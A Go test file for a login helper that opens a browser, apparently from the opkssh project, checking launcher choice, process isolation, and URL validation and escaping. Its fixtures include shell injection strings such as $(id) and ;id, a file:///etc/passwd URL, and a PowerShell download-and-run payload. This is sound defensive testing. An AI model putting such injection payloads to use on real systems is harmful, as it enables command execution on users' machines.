//go:build unix && !darwin

package login_test

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"opkssh/internal/login"
)

const authorizationURL = "https://op.example.com/authorize?client_id=a&scope=openid+email&x=%20%22%3B%24%28id%29"

// program puts a script into folder that writes its arguments, one a line, into a file beside it.
func program(t *testing.T, folder, name, then string) (arguments string) {
	t.Helper()
	path := filepath.Join(folder, name)
	arguments = path + ".arguments"
	script := "#!/bin/sh\nprintf '%s\\n' \"$@\" > '" + arguments + ".new'\n/bin/mv '" + arguments + ".new' '" + arguments + "'\n" + then + "\n"
	if err := os.WriteFile(path, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return arguments
}

func waitFor(t *testing.T, file string) string {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		if data, err := os.ReadFile(file); err == nil {
			return string(data)
		}
	}
	t.Fatalf("%s was not written", file)
	return ""
}

// PATH holds nothing but what the test put there.
func emptyPath(t *testing.T) string {
	t.Helper()
	folder := t.TempDir()
	t.Setenv("PATH", folder)
	return folder
}

func environment(variables map[string]string) func(string) string {
	return func(name string) string { return variables[name] }
}

func TestBrowserCommands(t *testing.T) {
	wsl := map[string]string{"WSL_DISTRO_NAME": "Debian"}
	handler := "url.dll,FileProtocolHandler\n" + authorizationURL + "\n"
	for name, c := range map[string]struct {
		env       map[string]string
		installed []string
		want      string // which program is started
		arguments string
	}{
		"desktop":              {nil, []string{"xdg-open", "x-www-browser", "www-browser"}, "xdg-open", authorizationURL + "\n"},
		"alternative":          {nil, []string{"x-www-browser", "www-browser"}, "x-www-browser", authorizationURL + "\n"},
		"last":                 {nil, []string{"www-browser"}, "www-browser", authorizationURL + "\n"},
		"WSL":                  {wsl, []string{"wslview", "rundll32.exe", "xdg-open"}, "wslview", authorizationURL + "\n"},
		"WSL without wslu":     {wsl, []string{"rundll32.exe", "xdg-open"}, "rundll32.exe", handler},
		"WSL by itself":        {wsl, []string{"xdg-open"}, "xdg-open", authorizationURL + "\n"},
		"Termux":               {map[string]string{"TERMUX_VERSION": "0.118"}, []string{"termux-open-url", "xdg-open"}, "termux-open-url", authorizationURL + "\n"},
		"BROWSER in Termux":    {map[string]string{"TERMUX_VERSION": "0.118", "BROWSER": "mine"}, []string{"mine", "termux-open-url"}, "mine", authorizationURL + "\n"},
		"BROWSER":              {map[string]string{"BROWSER": "mine"}, []string{"mine", "xdg-open"}, "mine", authorizationURL + "\n"},
		"BROWSER in WSL":       {map[string]string{"BROWSER": "mine", "WSL_DISTRO_NAME": "Debian"}, []string{"mine", "wslview"}, "mine", authorizationURL + "\n"},
		"BROWSER's second":     {map[string]string{"BROWSER": "absent::mine -x"}, []string{"mine", "xdg-open"}, "mine", "-x\n" + authorizationURL + "\n"},
		"BROWSER with %s":      {map[string]string{"BROWSER": "mine --url=%s 100%% -y"}, []string{"mine"}, "mine", "--url=" + authorizationURL + "\n100%\n-y\n"},
		"BROWSER with %%s":     {map[string]string{"BROWSER": "mine %%s"}, []string{"mine"}, "mine", "%s\n" + authorizationURL + "\n"},
		"BROWSER is not there": {map[string]string{"BROWSER": "absent"}, []string{"xdg-open"}, "xdg-open", authorizationURL + "\n"},
		"BROWSER is no shell":  {map[string]string{"BROWSER": "mine ;id"}, []string{"mine"}, "mine", ";id\n" + authorizationURL + "\n"},
	} {
		t.Run(name, func(t *testing.T) {
			folder := emptyPath(t)
			files := map[string]string{}
			for _, installed := range c.installed {
				files[installed] = program(t, folder, installed, "")
			}
			if err := (login.Browser{Getenv: environment(c.env)}).Open(authorizationURL); err != nil {
				t.Fatal(err)
			}
			if got := waitFor(t, files[c.want]); got != c.arguments {
				t.Errorf("expected arguments %q, got %q", c.arguments, got)
			}
			for other, file := range files {
				if _, err := os.Stat(file); other != c.want && err == nil {
					t.Errorf("%s was started too", other)
				}
			}
		})
	}
}

func TestNoBrowser(t *testing.T) {
	emptyPath(t)
	if err := (login.Browser{}).Open(authorizationURL); err == nil || !strings.Contains(err.Error(), "xdg-open") {
		t.Errorf("expected an error that names what was tried, got %v", err)
	}
}

// A browser that runs on is neither waited for nor reached by Ctrl-C in our terminal.
func TestBrowserIsApart(t *testing.T) {
	folder := emptyPath(t)
	pidFile := filepath.Join(folder, "pid")
	program(t, folder, "xdg-open", "printf '%s' $$ > '"+pidFile+".new'\n/bin/mv '"+pidFile+".new' '"+pidFile+"'\nexec /bin/sleep 600")
	if err := (login.Browser{}).Open(authorizationURL); err != nil {
		t.Fatal(err)
	}
	pid, err := strconv.Atoi(waitFor(t, pidFile))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = syscall.Kill(pid, syscall.SIGKILL) }()
	group, err := syscall.Getpgid(pid)
	if err != nil {
		t.Fatalf("not running any more: %v", err)
	}
	if group == syscall.Getpgrp() {
		t.Error("in our process group")
	}
}

// Only pages of the web are opened, and only URLs that no program can take for two words.
func TestBrowserURLs(t *testing.T) {
	for url, ok := range map[string]bool{
		"https://op.example.com/a?b=c&d=%20":            true,
		"http://localhost:3000/":                        true,
		"http://[::1]:3000/":                            true,
		"http://op.example.com/":                        false,
		"http://localhost.example.com/":                 false,
		"file:///etc/passwd":                            false,
		"javascript:alert(1)":                           false,
		"ms-settings:":                                  false,
		"https:op.example.com":                          false,
		"https:///a":                                    false,
		"-https://op.example.com":                       false,
		"--help":                                        false,
		"":                                              false,
		"https://op.example.com/?a=\"b":                 false,
		"https://op.example.com/?a= --b":                false,
		"https://op.example.com/?a=`id`":                false,
		"https://op.example.com/?a=\\b":                 false,
		"https://op.example.com/?a=b|c":                 false,
		"https://op.example.com/?a=b\nc":                false,
		"https://op.example.com/?a=\u202eb":             false,
		"https://op.example.com/?a=%22%20b&c=%28d%29#e": true,
		"https://alice@op.example.com/":                 false,
		"https://$(id).example.com/":                    false,
		"https://op.example.com'/":                      false,
		"https://op.example.com;id/":                    false,
	} {
		folder := emptyPath(t)
		file := program(t, folder, "xdg-open", "")
		err := login.Browser{}.Open(url)
		if ok != (err == nil) {
			t.Errorf("%q: expected %t, got %v", url, ok, err)
			continue
		}
		if ok {
			if got := waitFor(t, file); got != url+"\n" {
				t.Errorf("expected %q, got %q", url, got)
			}
		} else if _, err := os.Stat(file); err == nil {
			t.Errorf("%q was opened", url)
		}
	}
}

// A provider names its login page. What a shell of any kind could take for code in it reaches no browser program as it is.
func TestBrowserGetsNoShellCode(t *testing.T) {
	for url, want := range map[string]string{
		"https://op.example.com/a$(iex(irm('http://127.0.0.1/x.ps1')))?b=c": "https://op.example.com/a%24%28iex%28irm%28%27http://127.0.0.1/x.ps1%27%29%29%29?b=c",
		"https://op.example.com/a?b=$(id)&c=d":                              "https://op.example.com/a?b=%24%28id%29&c=d",
		"https://op.example.com/a?b=';id;'&c=!1,2*[3]":                      "https://op.example.com/a?b=%27%3Bid%3B%27&c=%211%2C2%2A%5B3%5D",
		"https://op.example.com/a#$(id)":                                    "https://op.example.com/a#%24%28id%29",
		"https://op.example.com/a%24(b)/?c=%28+d":                           "https://op.example.com/a%24%28b%29/?c=%28+d",
		"http://[::1]:3000/a[0]":                                            "http://[::1]:3000/a%5B0%5D",
		"https://op.example.com:8443/~a/b-c_d.e@f:g?h=i/j?k":                "https://op.example.com:8443/~a/b-c_d.e@f:g?h=i/j?k",
	} {
		file := program(t, emptyPath(t), "xdg-open", "")
		if err := (login.Browser{}).Open(url); err != nil {
			t.Errorf("%s: %v", url, err)
			continue
		}
		if got := waitFor(t, file); got != want+"\n" {
			t.Errorf("expected %s, got %s", want, got)
		}
	}
}
